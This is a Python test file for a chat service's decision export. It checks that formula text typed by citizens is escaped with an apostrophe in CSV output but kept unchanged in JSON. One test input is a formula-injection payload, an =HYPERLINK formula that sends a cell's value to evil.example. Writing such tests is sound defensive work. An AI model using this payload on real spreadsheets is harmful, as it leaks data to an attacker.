"""Deployment hardening (issue 15): each test fails without its fix."""

from __future__ import annotations

import csv
import io

from tests.governance.conftest import say, start


def test_a_citizen_formula_is_plain_text_in_the_decision_csv(client, staff):
    conversation = start(client)
    say(client, conversation, text='=HYPERLINK("http://evil.example/?x="&A1,"klik") wat kost een paspoort')
    say(client, conversation, text="@SUM(1+1) en +31 of -2")
    response = client.get(
        "/api/v1/decisions",
        params={"format": "csv", "conversationId": conversation["conversation_id"]},
        headers=staff["reviewer"]["headers"],
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    texts = [row["input_text_redacted"] for row in rows]
    assert len(texts) == 2
    assert all(text.startswith("'") for text in texts), texts
    assert any(text.startswith("'=HYPERLINK") for text in texts)
    # the JSON of the same records keeps the text as typed: only spreadsheets need the apostrophe
    items = client.get(
        "/api/v1/decisions",
        params={"conversationId": conversation["conversation_id"]},
        headers=staff["reviewer"]["headers"],
    ).json()["items"]
    assert any(item["input_text_redacted"].startswith("=HYPERLINK") for item in items)
